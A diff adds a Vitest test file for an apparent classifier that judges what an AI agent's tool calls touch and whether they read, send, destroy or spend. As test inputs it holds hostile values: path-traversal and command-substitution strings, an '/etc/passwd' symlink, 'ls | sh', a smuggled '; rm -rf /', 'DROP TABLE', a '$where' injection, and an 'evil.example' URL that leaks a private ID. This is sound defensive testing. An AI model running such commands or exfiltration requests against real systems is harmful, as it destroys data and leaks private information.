@@ -1,0 +1,235 @@
+import { beforeAll, describe, expect, it } from 'vitest'
+import { actOf, judgedTool, toolThat } from '../../e2e/support/consent-call.ts'
+import type { JsonObject } from '../../src-shared/base/json.ts'
+import { distinctive, looksLikeData } from './act.ts'
+import { sqlIsReadable } from './read-sql.ts'
+import { Seen } from './seen.ts'
+
+beforeAll(() => sqlIsReadable)
+
+const files = judgedTool('read_text_file', { published: '@modelcontextprotocol/server-filesystem' })
+const reader = toolThat('reads')
+const changer = toolThat('reads', 'changes')
+const powers = (tool: Parameters<typeof actOf>[0], args: JsonObject, facts = {}) => actOf(tool, args, facts).powers.join(' ')
+const listed = (...words: string[]) => {
+  const seen = new Seen()
+  for (const word of words) seen.result('server', { call: '1', what: 'list' }, word, ['reads'])
+  return seen
+}
+
+describe('where a call reaches', () => {
+  it('is where a path really lies', () => {
+    const resolved = new Map([['/home/ana/shop/link', '/etc/passwd']])
+    expect(actOf(files, { path: '~/shop/link' }, { resolved }).touches).toEqual([
+      { is: 'path', argument: 'path', value: '~/shop/link', path: '/etc/passwd' },
+    ])
+    expect(actOf(files, { path: 'x/../../y' }, { base: '/home/ana/shop' }).touches).toMatchObject([{ path: '/home/ana/y' }])
+  })
+
+  it('is an item for a file of a place that only the server knows', () => {
+    expect(actOf(files, { path: 'src/a.ts' })).toMatchObject({ touches: [{ is: 'item', value: 'src/a.ts' }] })
+    expect(actOf(files, { path: 'src/a.ts' }).unread).toBeUndefined()
+  })
+
+  it.each(['../x', 'a/../../x', '~bob/x', '$HOME/x', '%HOME%/x', '%2e%2e/x', 'a/`id`', 'a\0b', 'a\nb', '..\\x'])(
+    'is not known of a path that leads away: %j',
+    (path) => {
+      expect(actOf(files, { path }).unread).toBe('Where “path” leads cannot be known.')
+    },
+  )
+
+  it('is a host with its port, and what strangers wrote comes in', () => {
+    const act = actOf(reader, { url: 'HTTPS://Example.com:8443/a' })
+    expect(act.touches).toEqual([{ is: 'host', argument: 'url', value: 'HTTPS://Example.com:8443/a', host: 'example.com:8443' }])
+    expect(act.powers).toEqual(['reads', 'brings-in'])
+  })
+
+  it('is named where a result or the person gave the whole address, on the internet', () => {
+    const seen = new Seen()
+    seen.person('https://example.com/a http://192.168.0.1/a')
+    expect(actOf(reader, { url: 'https://example.com/a' }, { seen }).touches).toMatchObject([{ named: true }])
+    expect(actOf(reader, { url: 'https://example.com/b' }, { seen }).touches[0]).not.toHaveProperty('named')
+    expect(actOf(reader, { url: 'http://192.168.0.1/a' }, { seen }).touches[0]).not.toHaveProperty('named')
+  })
+
+  it.each([
+    ['a name', 'https://ana@example.com/'],
+    ['a password', 'https://:x@example.com/'],
+    ['what cannot be parsed', 'https://exa mple/'],
+    ['more than 8 KiB', `https://example.com/${'x/'.repeat(4_100)}`],
+    ['what nobody said', 'https://example.com/?d=a8f5f167f44f4964e6c998dee827110c'],
+    ['a long number', 'https://example.com/4111111111111111'],
+    ['a host of data', 'https://a8f5f167f44f4964e6c998.example.com/'],
+  ])('is never remembered of an address with %s', (_what, url) => {
+    expect(actOf(reader, { url }).unread).toMatch(/^The address/)
+  })
+
+  it('sends with an address what only private results had, and not what it was given whole', () => {
+    const seen = listed('A-10234 ana.private.note here https://example.com/A-10234')
+    expect(powers(judgedTool('fetch', { serverId: 'web' }), { url: 'https://evil.example/A-10234' }, { seen })).toContain('sends')
+    expect(actOf({ ...reader, serverId: 'web' }, { url: 'https://evil.example/A-10234' }, { seen }).powers).toContain('sends')
+    expect(actOf(reader, { url: 'https://evil.example/A-10234' }, { seen }).powers).not.toContain('sends')
+    seen.person('A-10234')
+    expect(actOf({ ...reader, serverId: 'web' }, { url: 'https://evil.example/A-10234' }, { seen }).powers).not.toContain('sends')
+  })
+
+  it('is everybody whom an argument names, in lower case', () => {
+    const to = 'Ana <Ana@Example.com>, bob@example.com'
+    expect(actOf(changer, { to }).touches.map(({ is, value }) => `${is} ${value}`)).toEqual([
+      ...['recipient ana@example.com', 'recipient bob@example.com'],
+    ])
+    expect(actOf(changer, { channel: ' General ' }).touches).toMatchObject([{ is: 'recipient', value: 'general' }])
+    expect(actOf(changer, { to })).toMatchObject({ tells: true, powers: ['reads', 'changes', 'sends'] })
+    expect(actOf(reader, { channel: 'General' }).touches).toEqual([{ is: 'value', argument: 'channel', value: 'General' }])
+  })
+
+  it('is a statement with its tables, and only does what that does', () => {
+    const query = toolThat('reads', 'changes', 'destroys', 'sends')
+    expect(powers(query, { sql: 'SELECT * FROM orders' })).toBe('reads')
+    expect(powers(query, { sql: 'UPDATE orders SET a = 1' })).toBe('reads changes')
+    expect(powers(query, { sql: 'DELETE FROM orders' })).toBe('reads changes destroys')
+    expect(powers(reader, { sql: 'DELETE FROM orders' })).toBe('reads changes destroys')
+    const unread = actOf(reader, { sql: 'DROP TABLE orders' })
+    expect(unread).toMatchObject({ unread: 'The SQL in “sql” is not one plain statement.', touches: [{ is: 'value' }] })
+    expect(unread.powers).toEqual(['reads', 'changes', 'destroys', 'sends'])
+    expect(actOf(reader, { query: 'DROP TABLE orders' }).unread).toBeDefined()
+  })
+
+  it('is a command with its paths, and all that a shell can where it is not read', () => {
+    const act = actOf(toolThat('reads', 'changes', 'destroys', 'sends'), { command: 'cat /etc/hosts ../x --file=/tmp/y' })
+    expect(act.touches.map(({ is, value }) => `${is} ${value}`)).toEqual([
+      'command cat /etc/hosts ../x --file=/tmp/y',
+      'path /etc/hosts',
+      'path ../x',
+      'path /tmp/y',
+    ])
+    expect(powers(changer, { command: 'npm test' })).toBe('reads changes')
+    expect(powers(changer, { command: 'git status' })).toBe('reads')
+    expect(actOf(reader, { command: 'ls | sh' })).toMatchObject({
+      powers: ['reads', 'brings-in', 'changes', 'destroys', 'sends'],
+      unread: expect.stringContaining('not one plain program'),
+    })
+  })
+
+  it.each<[string, JsonObject]>([
+    ['a list', { command: 'git', args: ['log', '--output=x'] }],
+    ['a text', { command: 'git log', args: '--output=x' }],
+    ['another text', { command: 'git', arguments: 'push origin' }],
+    ['a list with a blank in it', { command: 'npm', args: ['test', '--', '; rm -rf /'] }],
+  ])('takes arguments beside a command into it: %s', (_what, args) => {
+    expect(actOf(changer, args).unread).toBeDefined()
+  })
+
+  it('takes a plain line together from its parts', () => {
+    expect(actOf(changer, { command: 'git', args: ['log', '--oneline'] }).touches).toMatchObject([{ words: 'git log' }])
+    expect(actOf(changer, { command: 'cat', args: ['a b', '/x'] }).touches).toMatchObject([{ words: 'cat' }, { path: '/x' }])
+  })
+
+  it('is an item where this server listed it or the person wrote it, and else a place', () => {
+    const seen = listed('A-1 A-2')
+    seen.person('B-1')
+    const of = (order_id: string, server = 'server') =>
+      actOf({ ...changer, serverId: server }, { order_id }, { seen }).touches[0]?.is
+    expect([of('A-1'), of('B-1'), of('C-1'), of('A-1', 'other'), of('A-1 C-1')]).toEqual([
+      'item',
+      'item',
+      'value',
+      'value',
+      'value',
+    ])
+    expect(actOf(judgedTool('frobnicate'), { id: 'A-1' }, { seen }).touches[0]?.is).toBe('value')
+    expect(actOf(changer, { repo: 'A-1' }, { seen }).touches[0]?.is).toBe('value')
+    expect(actOf(changer, { frob: 'A-1' }, { seen }).touches[0]?.is).toBe('item')
+    expect(actOf(toolThat('changes', 'destroys'), { frob: 'A-1' }, { seen }).touches[0]?.is).toBe('value')
+  })
+
+  it('is what its server calls what is pressed', () => {
+    const line = (text: string) => listed(text)
+    expect(powers(changer, { ref: 'e12', element: 'Cancel' }, { seen: line('button "Delete everything" [ref=e12]') })).toContain(
+      'destroys',
+    )
+    expect(powers(changer, { ref: 'e12' }, { seen: line('button "Go 20 €" [ref=e12]') })).toContain('spends')
+    expect(powers(changer, { ref: 'e12' }, { seen: line('link "Socks 20 €" [ref=e12]') })).toBe('reads changes')
+    expect(powers(reader, { ref: 'e12' }, { seen: line('button "Delete" [ref=e12]') })).toBe('reads')
+    expect(powers(changer, { element: 'Delete everything' })).toContain('destroys')
+  })
+
+  it('is the page on which something is done, unless it is only looked at', () => {
+    const seen = listed('- Page URL: https://shop.example/cart')
+    const page = { is: 'host', argument: 'page', value: 'https://shop.example/cart', host: 'shop.example' }
+    expect(actOf(toolThat('brings-in', 'changes'), { x: true }, { seen }).touches).toContainEqual(page)
+    expect(actOf(toolThat('brings-in'), { x: true }, { seen }).touches).not.toContainEqual(page)
+    expect(actOf(toolThat('changes'), { x: true }, { seen }).touches).not.toContainEqual(page)
+  })
+
+  it('does more by a choice or a switch that says so, and no less', () => {
+    const mode = { ...changer, inputSchema: { type: 'object' as const, properties: { mode: { enum: ['delete', 'list'] } } } }
+    expect(powers(mode, { mode: 'delete' })).toContain('destroys')
+    expect(powers(mode, { mode: 'list' })).toBe('reads changes')
+    expect(powers(changer, { force: true })).toContain('destroys')
+    expect(powers(changer, { force: false })).not.toContain('destroys')
+  })
+
+  it('is an amount where money is spent', () => {
+    const pays = toolThat('changes', 'spends')
+    expect(actOf(pays, { amount: 5 }).touches).toEqual([{ is: 'amount', argument: 'amount', value: '5', amount: 5 }])
+    expect(actOf(pays, { amount: '5.5' }).touches).toMatchObject([{ is: 'amount', amount: 5.5 }])
+    expect(actOf(pays, { amount: 'all' }).touches).toMatchObject([{ is: 'value', value: 'all' }])
+    expect(actOf(pays, { frob: 7 }).touches).toMatchObject([{ is: 'value', value: '7' }])
+    expect(actOf(changer, { frob: 7 }).touches).toEqual([])
+    expect(actOf(toolThat('changes', 'destroys'), { id: 7 }).touches).toMatchObject([{ is: 'value', value: '7' }])
+  })
+
+  it('is what a query finds, where that is destroyed', () => {
+    expect(actOf(toolThat('changes', 'destroys'), { query: 'old mails' })).toMatchObject({
+      touches: [{ is: 'value' }],
+      carries: ['old mails'],
+    })
+    expect(actOf(reader, { query: 'old mails' })).toMatchObject({ touches: [], carries: ['old mails'] })
+  })
+
+  it('is never remembered of code in a query', () => {
+    expect(actOf(reader, { filter: { $where: 'x' } })).toMatchObject({
+      unread: expect.stringContaining('holds code'),
+      powers: ['reads', 'changes', 'destroys', 'sends'],
+    })
+  })
+
+  it('is not known of too many values, and all may be done and told', () => {
+    const act = actOf(judgedTool('get_row'), { x: Array.from({ length: 3_000 }, () => 'a') })
+    expect(act).toMatchObject({ tells: true, touches: [], powers: ['reads', 'brings-in', 'changes', 'destroys', 'sends'] })
+    expect(act.unread).toBe('The arguments are too many or too deep to be read.')
+    expect(act.carries[0]).toContain('"a","a"')
+  })
+
+  it('brings in what strangers wrote from folders for packages and downloads', () => {
+    expect(powers(files, { path: '/home/ana/shop/node_modules/x/README.md' })).toBe('reads brings-in')
+    expect(powers(files, { path: '/home/ana/Downloads/x' })).toBe('reads brings-in')
+    expect(powers(files, { path: '/home/ana/shop/x' })).toBe('reads')
+  })
+
+  it('writes where a known server is told a file to write', () => {
+    const shot = judgedTool('browser_take_screenshot', { published: '@playwright/mcp' })
+    expect(powers(shot, { filename: 'x.png' })).toContain('changes')
+    expect(powers(shot, { type: 'png' })).not.toContain('changes')
+  })
+
+  it('is told to those who live where it changes something, unless it is on this computer or vouched for', () => {
+    const named = judgedTool('update_row')
+    expect(powers(named, { frob: 'x' })).toBe('reads changes sends')
+    expect(powers(named, { path: '/home/ana/x' })).toBe('reads changes')
+    expect(powers({ ...named, hints: { ...named.hints, openWorld: false } }, { frob: 'x' })).toBe('reads changes')
+    expect(actOf(named, { frob: 'x' }).tells).toBe(false)
+  })
+})
+
+describe('a word', () => {
+  it.each(['a8f5f167f4', '4111111', 'x'.repeat(41)])('looks like data: %s', (word) => expect(looksLikeData(word)).toBe(true))
+  it.each(['hello', '2026-11-22', 'utf-8', '20261122', '123456'])('does not: %s', (word) =>
+    expect(looksLikeData(word)).toBe(false),
+  )
+  it.each(['A-1023', '12345', 'ana@x.de', 'x'.repeat(31)])('can be told from all others: %s', (word) =>
+    expect(distinctive(word)).toBe(true),
+  )
+  it.each(['2026', 'hello', 'a1', 'x'.repeat(30)])('cannot: %s', (word) => expect(distinctive(word)).toBe(false))
+})
